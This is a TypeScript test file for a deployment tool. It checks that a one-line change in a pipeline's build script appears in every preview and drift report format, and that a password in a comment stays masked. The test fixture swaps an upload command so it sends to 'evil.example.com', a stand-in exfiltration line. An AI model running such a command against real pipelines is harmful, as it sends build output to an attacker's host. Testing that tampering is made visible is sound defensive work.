/** Tests on the real engine that one line of a script is visible in every form, wherever it was changed. */
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { setUp } from "./support.js";

const SECRET = "x9Qz81mKpW";
const script = (host: string) =>
  [
    // Whoever writes such a comment hides only it.
    `# password=${SECRET}`,
    "set -e",
    "npm ci",
    "npm run build",
    "tar -czf dist.tgz dist",
    `curl -fsS https://${host}/upload`,
    "rm dist.tgz",
  ]
    .map((line) => `              ${line}\n`)
    .join("");
const declared = (host: string) => `version: 1
workspace: acme
variables:
  PASSWORD: { value: "password of ${host}", encrypted: true, description: For ${host} }
projects:
  web:
    displayName: Web shop
    pipelines:
      deploy:
        triggerMode: MANUAL
        refType: BRANCH
        refName: main
        actions:
          - name: Build
            type: BUILD
            triggerTime: ON_EVERY_EXECUTION
            containerImageName: node
            containerImageTag: "22"
            executeCommands:
            - |
${script(host)}`;

const { folder, file, run } = await setUp(declared("deploy.example.com"));
const change = [
  "- curl -fsS https://deploy.example.com/upload",
  "+ curl -fsS https://evil.example.com/upload",
];
const [removed = "", added = ""] = change;

beforeAll(async () => {
  expect(await run("up", "--create-stack", "--yes")).toMatchObject({ code: 0 });
  writeFileSync(file, declared("evil.example.com"));
});

describe.sequential("a script of which one line changes", () => {
  it("is shown line by line before it is applied", async () => {
    const { stdout } = await run("preview");
    expect(stdout).toContain(`
        executeCommands[0]
          @@ 3 unchanged lines @@
            npm run build
            tar -czf dist.tgz dist
          ${removed}
          ${added}
            rm dist.tgz
`);
    // Two secrets are told apart by the provider alone.
    expect(stdout).toMatch(/description {2}"For deploy.example.com" → "For evil.example.com"\n/);
    expect(stdout).toMatch(/value +\[secret, changed\]\n/);
    const whole = await run("preview", "--details");
    expect(whole.stdout).toContain(
      "            # password=[secret]\n            set -e\n            npm ci\n",
    );
  });

  it.each([
    ["preview", ["markdown", "html", "github", "junit", "json"]],
    ["drift", ["table", "markdown", "html", "github", "junit", "sarif", "json"]],
  ])("is in every report of %s", async (command, formats) => {
    const report = (format: string) => join(folder, `${command}.${format}`);
    await run(command, ...formats.flatMap((format) => ["--format", `${format}=${report(format)}`]));
    for (const format of formats) expect(readFileSync(report(format), "utf8"), format).not.toContain(SECRET);
    for (const format of formats)
      for (const line of [removed, added])
        expect(readFileSync(report(format), "utf8"), format).toContain(line.slice(2));
  });
});
